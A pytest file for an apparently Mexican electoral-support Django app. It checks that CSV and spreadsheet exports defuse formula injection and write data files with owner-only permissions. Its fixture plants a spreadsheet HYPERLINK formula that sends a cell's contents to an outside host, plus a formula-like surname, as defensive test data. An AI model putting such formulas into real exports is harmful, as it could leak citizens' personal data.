"""The files of the results and the INE route, from the commands (CONTRACT.md export_for_ine,
export_results) and the pages alike: texts that would read as spreadsheet formulas are neutralised,
numbers and claves are written as they are, and files written to disk, which hold citizens' data,
are readable by their owner only."""

import csv
import datetime
import io
import os
import stat

import pytest
from django.core.management import call_command
from django.urls import reverse
from python_calamine import CalamineWorkbook

from apoyo.accounts.models import Role
from apoyo.supports.models import Support
from apoyo.testing.factories import (
    citizen,
    elector_key,
    make_aspirant,
    make_cut,
    make_office,
    make_sections,
    make_user,
    nominal_list,
    support,
)
from apoyo.verification.services import run_check

pytestmark = pytest.mark.django_db

# A folio holds at most 40 characters (PostgreSQL enforces it; SQLite does not).
FORMULA = '=HYPERLINK("http://x.mx/?"&B2,"Ver")'


@pytest.fixture
def server_umask():
    """The umask of a typical server (022): plain open() would make files world-readable."""
    previous = os.umask(0o022)
    yield
    os.umask(previous)


@pytest.fixture
def office():
    make_sections()
    nominal_list({1: 1000, 2: 500})
    make_cut()
    office = make_office(code="GOB")
    aspirant = make_aspirant(office, code="A-01")
    key = elector_key()
    citizen(key, section=1)
    injected = support(aspirant, key, reference=" " + FORMULA, day=datetime.date(2020, 12, 16))
    Support.objects.filter(pk=injected.pk).update(name=FORMULA, paternal_surname="-2+3")
    support(aspirant, elector_key(), reference="F-2")
    return office


def read(path):
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def mode(path):
    return stat.S_IMODE(path.stat().st_mode)


def test_export_for_ine_neutralises_formulas_and_keeps_ids_and_claves(office, tmp_path):
    out = tmp_path / "para_ine.csv"
    call_command("export_for_ine", "--office", "GOB", str(out))
    header, injected, plain = read(out)
    assert header == ["ID", "NUMERO_REFERENCIA", "NOMBRE", "APELLIDO_PATERNO",
                      "APELLIDO_MATERNO", "CLAVE_ELECTOR", "OCR"]  # fmt: skip
    assert injected[1:4] == ["' " + FORMULA, "'" + FORMULA, "'-2+3"]
    assert injected[0].isdigit() and plain[0].isdigit()
    assert plain[1:] == ["F-2", "JUAN", "GARCIA", "LOPEZ", plain[5], "1234567890123"]
    assert len(plain[5]) == 18


def test_export_results_neutralises_a_folio_that_reads_as_a_formula(office, tmp_path):
    call_command("export_results", "--office", "GOB", "--out", str(tmp_path))
    supports = {row[1]: row for row in read(tmp_path / "supports.csv")[1:]}
    assert set(supports) == {"' " + FORMULA, "F-2"}
    assert supports["F-2"][4] == "2020-12-20"
    aspirant = read(tmp_path / "aspirants.csv")[1]
    assert aspirant[:7] == ["A-01", "GOB", "1500", "45", "2", "1", "0.07"]


def test_export_files_are_owner_only_and_a_new_folder_is_0700(office, tmp_path, server_umask):
    folder = tmp_path / "resultados" / "gob"
    call_command("export_results", "--office", "GOB", "--out", str(folder))
    call_command("export_for_ine", "--office", "GOB", str(tmp_path / "para_ine.csv"))
    assert mode(folder) == mode(folder.parent) == 0o700
    assert mode(folder / "supports.csv") == mode(folder / "aspirants.csv") == 0o600
    assert mode(tmp_path / "para_ine.csv") == 0o600


def test_export_results_leaves_an_existing_folder_as_it_is(office, tmp_path, server_umask):
    tmp_path.chmod(0o755)
    call_command("export_results", "--office", "GOB", "--out", str(tmp_path))
    assert mode(tmp_path) == 0o755
    assert mode(tmp_path / "supports.csv") == 0o600


def test_the_pages_exports_neutralise_formulas_behind_leading_spaces(client, office):
    run_check(office)
    client.force_login(make_user(Role.OPL_ADMIN, state_number=26))

    def get(name, *args):
        return client.get(reverse(f"verification:{name}", args=[office.pk, *args]))

    def csv_rows(response):
        body = b"".join(response.streaming_content).decode("utf-8-sig")
        return list(csv.reader(io.StringIO(body)))

    references = {row[1] for row in csv_rows(get("export", "apoyos", "csv"))[1:]}
    assert references == {"' " + FORMULA, "F-2"}
    workbook = CalamineWorkbook.from_filelike(
        io.BytesIO(get("export", "resultados", "xlsx").content)
    )
    sheet = workbook.get_sheet_by_name("Apoyos").to_python()
    assert {row[1] for row in sheet[1:]} == {"' " + FORMULA, "F-2"}
    for_ine = csv_rows(get("ine_export"))
    assert for_ine[1][1:4] == ["' " + FORMULA, "'" + FORMULA, "'-2+3"]
